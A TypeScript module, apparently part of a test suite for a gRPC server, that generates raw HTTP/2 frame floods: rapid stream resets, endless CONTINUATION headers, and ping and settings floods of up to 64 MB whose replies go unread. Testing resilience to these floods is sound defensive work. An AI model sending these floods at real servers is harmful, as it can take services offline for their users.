import {
  callFrame,
  continuationFrame,
  type GRPC_PATHS,
  pingFrame,
  resetFrame,
  settingsFrame,
} from './raw-http2.ts'

/** Far more than fit into what the system keeps of answers nobody reads. */
const MAX_BYTES = 64 * 1024 * 1024
const RESETS = 5_000

type GrpcPort = keyof typeof GRPC_PATHS

interface Http2Flood {
  readonly what: string
  readonly frames: () => Generator<Buffer>
  /** Whether the client reads what is sent to it. */
  readonly reads: boolean
}

/** Floods of HTTP/2 frames, each to be sent on a connection of its own; the calls are those of this port. */
export function http2Floods(port: GrpcPort): Http2Flood[] {
  return [
    {
      what: 'streams reset as soon as they are opened',
      frames: () => rapidResets(port, RESETS),
      reads: true,
    },
    { what: 'headers without an end', frames: () => endlessHeaders(port), reads: true },
    { what: 'pings whose answers nobody reads', frames: () => upTo(pingFrame()), reads: false },
    { what: 'settings whose answers nobody reads', frames: () => upTo(settingsFrame()), reads: false },
  ]
}

/** So many streams, each reset as soon as it is opened. */
export function* rapidResets(port: GrpcPort, count: number): Generator<Buffer> {
  for (let at = 0; at < count; at++)
    yield Buffer.concat([callFrame(2 * at + 1, true, port), resetFrame(2 * at + 1)])
}

function* endlessHeaders(port: GrpcPort): Generator<Buffer> {
  yield callFrame(1, false, port)
  yield* upTo(continuationFrame(1))
}

function* upTo(bytes: Buffer): Generator<Buffer> {
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => bytes))
  for (let sent = 0; sent < MAX_BYTES; sent += many.length) yield many
}
